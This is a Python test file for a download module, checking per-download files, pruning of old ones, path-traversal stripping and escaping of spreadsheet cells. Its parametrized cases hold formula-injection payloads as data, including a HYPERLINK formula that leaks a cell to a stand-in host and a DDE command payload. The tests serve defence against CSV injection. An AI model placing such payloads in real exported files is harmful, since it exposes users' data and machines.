"""Download files: fresh folder each, old ones pruned."""

import os
import time

import pytest

from components import downloads


def test_each_download_gets_its_own_file(tmp_path, monkeypatch):
    monkeypatch.setattr(downloads, "ROOT", tmp_path / "dl")
    a = downloads.write_download("ranking.csv", "a,b\n")
    b = downloads.write_download("ranking.csv", "c,d\n")
    assert a != b and open(a).read() == "a,b\n" and open(b).read() == "c,d\n"
    assert os.path.basename(downloads.write_download("../../evil.csv", "x")) == "evil.csv"


def test_old_downloads_are_removed(tmp_path, monkeypatch):
    monkeypatch.setattr(downloads, "ROOT", tmp_path / "dl")
    old = downloads.write_download("old.csv", "x")
    past = time.time() - downloads.MAX_AGE_S - 10
    os.utime(os.path.dirname(old), (past, past))
    downloads.write_download("new.csv", "y")
    assert not os.path.exists(old)


@pytest.mark.parametrize("value, shown", [
    ('=HYPERLINK("http://x/?leak="&A1,"click me")', '\'=HYPERLINK("http://x/?leak="&A1,"click me")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("- a list item", "'- a list item"),
    ("-0.2500", "-0.2500"), ("+0.0125", "+0.0125"), ("1e-05", "1e-05"), (-3, -3), (0.5, 0.5),
    ("plain text = fine", "plain text = fine"), ("", ""), ("'already quoted", "'already quoted"),
])
def test_safe_cell(value, shown):
    assert downloads.safe_cell(value) == shown


def test_csv_text_layout():
    text = downloads.csv_text(["a", "b"], [[1, "=x"], ["#y", "z"]], {"query_instruction": "query: ", "k": 10})
    assert text.splitlines() == ['# query_instruction,"""query: """', "# k,10", '"a","b"', '"1","\'=x"', '"#y","z"']
